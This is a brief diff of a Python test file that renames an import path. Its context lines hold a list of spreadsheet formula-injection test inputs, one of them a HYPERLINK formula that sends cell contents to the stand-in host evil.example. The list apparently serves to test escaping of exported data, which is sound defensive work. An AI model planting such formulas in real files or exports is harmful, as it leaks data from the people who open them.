@@ -11,7 +11,7 @@ import httpx
 import psutil
 import psycopg
 
-from tests.e2e.support import CHAT, EMBED, api, token_hash
+from tests.support.stack import CHAT, EMBED, api, token_hash
 from tests.usage.support import daily_row, random_hash, seed_litellm_daily, unused_day
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-3+4", "@SUM(A1:A9)", "\tcmd"]
